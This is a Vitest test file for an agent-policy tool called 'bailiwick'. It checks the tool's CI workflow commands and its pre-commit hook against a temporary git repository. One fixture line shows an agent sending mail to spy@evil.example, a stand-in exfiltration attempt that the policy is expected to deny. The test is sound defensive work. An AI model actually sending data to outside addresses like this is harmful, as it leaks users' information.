import { execFileSync, spawnSync } from 'node:child_process'
import { chmodSync, copyFileSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { expect, test } from 'vitest'
import { parse } from 'yaml'
import { edit } from '../evals/rules.ts'
import { inbox } from '../suites/inbox.ts'

const repository = fileURLToPath(new URL('../../../../', import.meta.url))
const suite = `version: 1
agent: clerk
goal: answer-letters
params: { folder: today }
cases:
  - { name: mail stays inside, kind: policy, steps: [{ call: mail.send, with: { to: spy@evil.example, body: x }, expect: deny }] }
`

/** A git repository with the rules of an inbox, and `npx` that finds the command line. */
function repositoryWithRules(): {
  readonly folder: string
  readonly env: Record<string, string>
  readonly git: (...args: string[]) => string
} {
  const { folder } = inbox({ 'suites/mail.yaml': suite })
  const bin = join(folder, 'bin')
  mkdirSync(bin)
  const cli = join(repository, 'scripts', 'bailiwick.ts')
  writeFileSync(join(bin, 'npx'), `#!/bin/sh\nshift\nexec "${process.execPath}" --conditions=@bailiwick/source "${cli}" "$@"\n`)
  chmodSync(join(bin, 'npx'), 0o755)
  const env = { PATH: `${bin}:${process.env['PATH'] ?? ''}`, HOME: folder, NO_COLOR: '1' }
  const git = (...args: string[]): string =>
    execFileSync('git', ['-c', 'user.name=a', '-c', 'user.email=a@corp.example', ...args], { cwd: folder, env, encoding: 'utf8' })
  git('init', '-q')
  return { folder, env, git }
}

test('The workflow to copy is well-formed, and each of its commands does what it says on rules that hold.', () => {
  const workflow = parse(readFileSync(join(repository, 'docs/ci/bailiwick.yml'), 'utf8')) as {
    jobs: { rules: { steps: { run?: string }[] } }
  }
  const commands = workflow.jobs.rules.steps.flatMap(({ run = '' }) => (run.startsWith('npx bailiwick') ? [run] : []))
  expect(commands).toHaveLength(5)
  const { folder, env } = repositoryWithRules()
  for (const command of commands.filter((one) => !one.includes('risk') && !one.includes('--mutate'))) {
    const { status, stdout, stderr } = spawnSync('sh', ['-c', command], { cwd: folder, env, encoding: 'utf8' })
    expect(status, `${command}\n${stdout}${stderr}`).toBe(0)
  }
  for (const command of commands.filter((one) => one.includes('risk') || one.includes('--mutate'))) {
    // What they say of these rules is their business; that they are understood is this test's.
    const { status } = spawnSync('sh', ['-c', command], { cwd: folder, env, encoding: 'utf8' })
    expect(status, command).toBeLessThan(2)
  }
}, 120_000)

test('The hook to copy lets a commit of rules that hold pass, stops one of rules that do not, and leaves other commits alone.', () => {
  const { folder, git } = repositoryWithRules()
  copyFileSync(join(repository, 'docs/ci/pre-commit'), join(folder, '.git/hooks/pre-commit'))
  git('add', 'bailiwick.yaml', 'bailiwick.lock.json', 'policies', 'suites')
  git('commit', '-qm', 'rules')
  edit(folder, 'bailiwick.yaml', 'mail.send: { to: { domain: corp.example } }', 'mail.send: {}')
  expect(() => git('commit', '-qam', 'anybody')).toThrow(/Command failed/)
  git('checkout', '-q', 'bailiwick.yaml')
  writeFileSync(join(folder, 'suites/mail.yaml'), 'version: 2\n')
  expect(() => git('commit', '-qam', 'broken')).toThrow(/Command failed/)
  git('checkout', '-q', 'suites')
  writeFileSync(join(folder, 'notes.txt'), 'x')
  git('add', 'notes.txt')
  git('commit', '-qm', 'notes')
  expect(git('log', '--format=%s')).toBe('notes\nrules\n')
}, 120_000)
